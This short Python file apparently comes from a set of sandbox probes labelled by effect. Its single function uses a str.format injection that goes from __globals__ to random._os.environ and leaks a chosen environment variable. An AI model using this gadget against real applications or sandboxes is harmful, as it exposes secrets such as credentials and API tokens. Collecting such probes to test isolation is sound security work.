# effect: leak
import random


def attempt(probe):
    text = "{f.__globals__[random]._os.environ[" + probe["env"] + "]}"
    return text.format_map({"f": attempt})
